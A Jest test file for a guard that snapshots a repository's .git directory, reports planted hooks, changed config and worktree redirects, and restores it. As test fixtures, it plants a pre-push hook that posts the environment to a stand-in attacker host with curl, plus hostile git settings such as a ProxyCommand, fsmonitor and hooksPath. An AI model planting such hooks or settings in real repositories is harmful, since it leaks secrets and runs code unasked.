import { describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import {
  chmod,
  lstat,
  mkdir,
  readdir,
  readFile,
  readlink,
  rename,
  symlink,
  unlink,
  writeFile
} from 'node:fs/promises'
import path from 'node:path'
import { tempDirs } from '../../__fixtures__/temp-dirs.js'
import { COPY_FILE_MAX_BYTES } from '../../src/git/git-dir-files.js'
import {
  type GitDirSnapshot,
  restoreGitDir,
  restoreGitDirOutcome,
  snapshotGitDir,
  verifyGitDir
} from '../../src/git/git-dir-guard.js'

const tempDir = tempDirs()

/** Every entry under `dir`: type, permission bits and content or target. */
async function tree(
  dir: string,
  skip: readonly string[] = []
): Promise<string[]> {
  const out: string[] = []
  const walk = async (rel: string): Promise<void> => {
    const full = path.join(dir, rel)
    const info = await lstat(full)
    const mode = (info.mode & 0o7777).toString(8)
    if (info.isDirectory()) {
      out.push(`d ${mode} ${rel}`)
      for (const child of (await readdir(full)).sort()) {
        const name = rel ? `${rel}/${child}` : child
        if (!skip.includes(name)) await walk(name)
      }
    } else if (info.isSymbolicLink()) {
      out.push(`l ${rel} -> ${await readlink(full)}`)
    } else {
      out.push(`f ${mode} ${rel} ${(await readFile(full)).toString('base64')}`)
    }
  }
  await walk('')
  return out
}

/** `git config key value` in the repository whose .git is `gitDir`. */
function gitConfig(gitDir: string, key: string, value: string): void {
  execFileSync('git', ['--git-dir', gitDir, 'config', key, value])
}

/** The violations of a directory that was not replaced. */
async function violations(before: GitDirSnapshot) {
  const verdict = await verifyGitDir(before)
  if (verdict.kind !== 'checked') throw new Error('the git dir was replaced')
  return verdict.violations
}

describe('git-dir guard: snapshot and verify', () => {
  async function gitRepo(): Promise<string> {
    const dir = await tempDir('git-internals-')
    execFileSync('git', ['init', '-q', dir])
    return path.join(dir, '.git')
  }

  it('reports nothing when .git is unchanged', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    expect(before.manifest).toMatch(/^git-internals v1 [0-9a-f]{64}\n/)
    expect(before.manifest).toMatch(/^[0-9a-f]{64} config$/m)
    expect(await snapshotGitDir(gitDir)).toEqual(before)
    expect(await violations(before)).toEqual([])
  })

  it('reports a planted hook', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    await writeFile(
      path.join(gitDir, 'hooks', 'pre-push'),
      '#!/bin/sh\ncurl -d "$(env)" https://evil.example\n'
    )
    await chmod(path.join(gitDir, 'hooks', 'pre-push'), 0o755)
    expect(await violations(before)).toEqual([
      {
        path: '.git/hooks/pre-push',
        rule: 'git-internals',
        message:
          '.git/hooks/pre-push was added during the run; it could run code or redirect the push token.'
      }
    ])
  })

  it('reports a changed config without echoing it', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    gitConfig(gitDir, 'core.sshCommand', 'ssh -o ProxyCommand=evil')
    const found = await violations(before)
    expect(found).toEqual([
      {
        path: '.git/config',
        rule: 'git-internals',
        message:
          '.git/config was changed during the run; it could run code or redirect the push token.'
      }
    ])
    expect(JSON.stringify(found)).not.toContain('ProxyCommand')
  })

  it('reports a removed file, a chmod, info and modules', async () => {
    const gitDir = await gitRepo()
    await writeFile(path.join(gitDir, 'hooks', 'post-checkout'), '#!/bin/sh\n')
    await writeFile(path.join(gitDir, 'hooks', 'keep.sample'), '#!/bin/sh\n')
    const before = await snapshotGitDir(gitDir)
    await unlink(path.join(gitDir, 'hooks', 'keep.sample'))
    await chmod(path.join(gitDir, 'hooks', 'post-checkout'), 0o755)
    await writeFile(path.join(gitDir, 'info', 'attributes'), '* filter=x\n')
    await mkdir(path.join(gitDir, 'modules', 'lib'), { recursive: true })
    await writeFile(path.join(gitDir, 'modules', 'lib', 'config'), '[core]\n')
    const found = await violations(before)
    expect(found.map((v) => [v.path, v.message.split(' was ')[1]])).toEqual([
      [
        '.git/hooks/keep.sample',
        'removed during the run; it could run code or redirect the push token.'
      ],
      [
        '.git/hooks/post-checkout',
        'changed during the run; it could run code or redirect the push token.'
      ],
      [
        '.git/info/attributes',
        'added during the run; it could run code or redirect the push token.'
      ],
      [
        '.git/modules/lib/config',
        'added during the run; it could run code or redirect the push token.'
      ]
    ])
  })

  it('follows a gitdir pointer file and rejects an unreadable snapshot', async () => {
    const gitDir = await gitRepo()
    const pointer = path.join(await tempDir('gitfile-'), '.git')
    await writeFile(pointer, `gitdir: ${gitDir}\n`)
    expect(await snapshotGitDir(pointer)).toEqual(await snapshotGitDir(gitDir))
    const before = await snapshotGitDir(gitDir)
    expect(await violations({ ...before, manifest: 'garbage' })).toEqual([
      {
        path: '.git',
        rule: 'git-internals',
        message: 'The snapshot of .git taken before the run is unreadable.'
      }
    ])
  })

  it('calls a git directory that is gone or replaced "replaced"', async () => {
    const missing = path.join(await tempDir('nogit-'), '.git')
    const before = await snapshotGitDir(missing)
    expect(before.manifest.split('\n')).toHaveLength(1)
    expect(await verifyGitDir(before)).toEqual({ kind: 'replaced' })
    const gitDir = await gitRepo()
    const snapshot = await snapshotGitDir(gitDir)
    // Moved aside, not deleted: a freed inode could be reused at once.
    await rename(gitDir, `${gitDir}-old`)
    execFileSync('git', ['init', '-q', path.dirname(gitDir)])
    expect(await verifyGitDir(snapshot)).toEqual({ kind: 'replaced' })
  })

  it('restores a planted config and drops a planted config.worktree', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    gitConfig(gitDir, 'core.fsmonitor', '/tmp/x')
    await writeFile(
      path.join(gitDir, 'config.worktree'),
      '[core]\n\tfsmonitor = /tmp/x\n'
    )
    expect(await violations(before)).toHaveLength(2)
    expect(await restoreGitDir(before)).toBe(true)
    expect(await violations(before)).toEqual([])
    expect(await restoreGitDir(before)).toBe(false)
  })

  it('puts back every watched file: added ones removed, removed and changed ones rewritten, modes included', async () => {
    const gitDir = await gitRepo()
    await writeFile(path.join(gitDir, 'hooks', 'post-checkout'), '#!/bin/sh\n')
    await mkdir(path.join(gitDir, 'info'), { recursive: true })
    await writeFile(path.join(gitDir, 'info', 'exclude'), 'build/\n')
    const skip = ['objects', 'refs', 'HEAD', 'description']
    const before = await tree(gitDir, skip)
    const snapshot = await snapshotGitDir(gitDir)
    // A hook planted, a hooksPath and an alias, attributes, a removed
    // file, a chmod, a new worktree and a redirect of the common dir.
    await writeFile(
      path.join(gitDir, 'hooks', 'pre-commit'),
      '#!/bin/sh\nevil\n'
    )
    await chmod(path.join(gitDir, 'hooks', 'pre-commit'), 0o755)
    await chmod(path.join(gitDir, 'hooks', 'post-checkout'), 0o755)
    gitConfig(gitDir, 'core.hooksPath', '/tmp/x')
    gitConfig(gitDir, 'alias.st', '!evil')
    await writeFile(path.join(gitDir, 'info', 'attributes'), '* filter=x\n')
    await unlink(path.join(gitDir, 'info', 'exclude'))
    await mkdir(path.join(gitDir, 'worktrees', 'evil'), { recursive: true })
    await writeFile(
      path.join(gitDir, 'worktrees', 'evil', 'commondir'),
      '../..\n'
    )
    await writeFile(path.join(gitDir, 'commondir'), '../.x\n')
    expect(await tree(gitDir, skip)).not.toEqual(before)
    expect(await restoreGitDir(snapshot)).toBe(true)
    expect(await tree(gitDir, skip)).toEqual(before)
    expect(await violations(snapshot)).toEqual([])
    expect(await restoreGitDir(snapshot)).toBe(false)
  })

  it('never follows a symlink planted in place of a watched directory', async () => {
    const gitDir = await gitRepo()
    const skip = ['objects', 'refs', 'HEAD', 'description']
    const before = await tree(gitDir, skip)
    const snapshot = await snapshotGitDir(gitDir)
    const outside = await tempDir('outside-')
    await writeFile(path.join(outside, 'keep'), 'mine\n')
    await rename(path.join(gitDir, 'hooks'), path.join(outside, 'old-hooks'))
    await symlink(outside, path.join(gitDir, 'hooks'))
    expect(await restoreGitDir(snapshot)).toBe(true)
    expect(await tree(gitDir, skip)).toEqual(before)
    expect((await readdir(outside)).sort()).toEqual(['keep', 'old-hooks'])
    expect(await readFile(path.join(outside, 'keep'), 'utf8')).toBe('mine\n')
  })

  it('keeps only a hash of what is too big to copy, and says it cannot be restored', async () => {
    const gitDir = await gitRepo()
    const big = path.join(gitDir, 'modules', 'lib', 'objects', 'pack.pack')
    await mkdir(path.dirname(big), { recursive: true })
    await writeFile(big, Buffer.alloc(COPY_FILE_MAX_BYTES + 1, 1))
    await writeFile(path.join(gitDir, 'modules', 'lib', 'config'), '[core]\n')
    const snapshot = await snapshotGitDir(gitDir)
    await writeFile(big, Buffer.alloc(COPY_FILE_MAX_BYTES + 1, 2))
    await writeFile(path.join(gitDir, 'modules', 'lib', 'config'), '[x]\n')
    expect((await violations(snapshot)).map((v) => v.message)).toEqual([
      '.git/modules/lib/config was changed during the run; it could run code or redirect the push token.',
      '.git/modules/lib/objects/pack.pack was changed during the run; it could run code or redirect the push token. It cannot be restored: it was too big to keep a copy of.'
    ])
    expect(await restoreGitDirOutcome(snapshot)).toEqual({
      changed: true,
      unrestorable: ['modules/lib/objects/pack.pack']
    })
    expect(
      await readFile(path.join(gitDir, 'modules', 'lib', 'config'), 'utf8')
    ).toBe('[core]\n')
  })

  it('watches only the redirects of a worktree that existed, and all of a new one', async () => {
    const gitDir = await gitRepo()
    const own = path.join(gitDir, 'worktrees', 'own')
    await mkdir(own, { recursive: true })
    await writeFile(path.join(own, 'gitdir'), '/somewhere/.git\n')
    await writeFile(path.join(own, 'HEAD'), 'ref: refs/heads/main\n')
    const snapshot = await snapshotGitDir(gitDir)
    await writeFile(path.join(own, 'HEAD'), 'ref: refs/heads/other\n')
    await writeFile(path.join(own, 'index'), 'index data')
    expect(await violations(snapshot)).toEqual([])
    await writeFile(path.join(own, 'commondir'), '../../../.x\n')
    expect((await violations(snapshot)).map((v) => v.path)).toEqual([
      '.git/worktrees/own/commondir'
    ])
    expect(await restoreGitDir(snapshot)).toBe(true)
    expect(await readFile(path.join(own, 'HEAD'), 'utf8')).toBe(
      'ref: refs/heads/other\n'
    )
  })

  it('touches nothing when .git was replaced', async () => {
    const gitDir = await gitRepo()
    const snapshot = await snapshotGitDir(gitDir)
    await rename(gitDir, `${gitDir}-old`)
    execFileSync('git', ['init', '-q', path.dirname(gitDir)])
    await writeFile(path.join(gitDir, 'hooks', 'pre-commit'), 'x')
    expect(await restoreGitDirOutcome(snapshot)).toBe(null)
    expect(
      await readFile(path.join(gitDir, 'hooks', 'pre-commit'), 'utf8')
    ).toBe('x')
  })
})
